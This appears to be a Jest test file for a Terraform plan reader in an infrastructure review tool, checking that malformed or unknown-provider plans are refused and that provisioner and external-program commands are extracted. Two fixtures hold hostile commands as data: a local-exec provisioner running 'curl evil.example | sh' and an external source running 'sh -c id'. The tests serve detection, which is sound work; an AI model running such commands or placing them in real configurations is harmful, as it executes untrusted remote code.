import { PlanError } from "../../../terraform/plan/plan-error";
import { readPlan } from "../../../terraform/plan/read";
import { changed, entryOf, type Json, set, textOf } from "../../review/support";

const refusal = (text: string): string => {
  try {
    readPlan(text, "primary", { file: "plan.json" });
  } catch (error) {
    if (error instanceof PlanError) return error.message;
    throw error;
  }
  throw new Error("The plan was read.");
};

const withEntry = (change: (entry: Json) => void): string =>
  changed("change-primary", (plan) => change(entryOf(plan, 'db-1"]')));

describe("a plan is refused with one sentence", () => {
  test.each(["before", "after"])("without the values %s an update", (side) => {
    const text = withEntry((entry) => set(entry["change"], side, null));
    expect(refusal(text)).toMatch(
      new RegExp(`^The plan has no values ${side} the change of vsphere_virtual_machine\\S+ \\(update\\)$`),
    );
  });

  test("without any values", () => {
    const text = withEntry((entry) => {
      set(entry["change"], "before", null);
      set(entry["change"], "after", null);
    });
    expect(refusal(text)).toContain("no values before and after the change of");
  });

  test.each([
    [["create"], "after"],
    [["delete"], "before"],
    [["delete", "create"], "before"],
    [["no-op"], "before"],
  ])("with the action %j and nothing %s", (actions, side) => {
    const text = withEntry((entry) => {
      set(entry["change"], "actions", actions);
      set(entry["change"], side, null);
    });
    expect(refusal(text)).toContain(`no values ${side} the change of`);
  });

  test.each([20_000, 201])("nested %i levels deep", (depth) => {
    const text = withEntry((entry) => set(entry["change"], "before", { deep: "DEEP" }));
    const deep = text.replace('"DEEP"', "[".repeat(depth) + "]".repeat(depth));
    expect(refusal(deep)).toBe("The plan is nested deeper than 200 levels");
  });

  test("but not for brackets in a text", () => {
    const brackets = `${"[".repeat(20_000)}\\" \\\\`;
    const text = withEntry((entry) => set(entry["change"]?.["before"], "annotation", brackets));
    expect(readPlan(text, "primary", { file: "plan.json" }).changes).toHaveLength(4);
  });

  test.each([
    "registry.terraform.io/hashicorp/aws",
    "registry.terraform.io/evil/vsphere",
    "example.org/vmware/vsphere",
  ])("with resources of %s", (provider) => {
    expect(refusal(withEntry((entry) => set(entry, "provider_name", provider)))).toBe(
      `The plan of primary uses providers that the review does not know: ${provider}`,
    );
  });

  test("with a data source of another provider in its configuration", () => {
    const text = changed("change-primary", (plan) =>
      set(plan["configuration"]?.["provider_config"], "http", {
        name: "http",
        full_name: "registry.terraform.io/hashicorp/http",
      }),
    );
    expect(refusal(text)).toContain("hashicorp/http");
  });
});

describe("programs of a configuration", () => {
  const resource = (more: object) => ({ mode: "managed", type: "null_resource", name: "x", expressions: {}, ...more });
  const addTo = (module: Json | undefined, added: object) => module?.["resources"]?.push(added as Json);
  const programs = (add: (module: Json | undefined) => void) =>
    readPlan(
      changed("change-primary", (plan) => add(plan["configuration"]?.["root_module"])),
      "primary",
      { file: "plan.json" },
    ).programs;

  test("are none without provisioners", () => {
    expect(readPlan(textOf("change-primary"), "primary").programs).toEqual([]);
  });

  test("are its provisioners, also in modules", () => {
    const evil = resource({
      address: "null_resource.evil",
      provisioners: [{ type: "local-exec", expressions: { command: { constant_value: "curl evil.example | sh" } } }],
    });
    expect(programs((module) => addTo(module, evil))).toEqual([
      { address: "null_resource.evil", kind: "local-exec", command: "curl evil.example | sh" },
    ]);
    const calls = { inner: { module: { resources: [evil] } } };
    expect(programs((module) => set(module, "module_calls", calls))).toEqual([
      expect.objectContaining({ address: "module.inner.null_resource.evil" }),
    ]);
  });

  test("are its external data sources", () => {
    const external = resource({
      address: "data.external.x",
      mode: "data",
      type: "external",
      expressions: { program: { constant_value: ["sh", "-c", "id"] } },
    });
    expect(programs((module) => addTo(module, external))).toEqual([
      { address: "data.external.x", kind: "external", command: "sh -c id" },
    ]);
  });

  test("of the project are known: the probes of the gateways", () => {
    const found = readPlan(textOf("empty-link"), "replication-link").programs ?? [];
    expect(found.map(({ command }) => command)).toEqual(
      found.map(() => expect.stringMatching(/^node assets\/\S+\/probe\.cjs$/)),
    );
    expect(found.length).toBeGreaterThan(0);
  });
});

test("a plan knows the names, roles and VMs of its state", () => {
  const { known } = readPlan(textOf("change-primary"), "primary");
  expect(known?.machines.map(({ name }) => name)).toEqual(expect.arrayContaining(["rab-db-1", "rab-db-2"]));
  expect([...(known?.roles.values() ?? [])]).toEqual(expect.arrayContaining(["massar-operator", "Administrator"]));
  expect([...(known?.names.values() ?? [])]).toEqual(expect.arrayContaining(["rabat-extension", "rab-db-1"]));
});
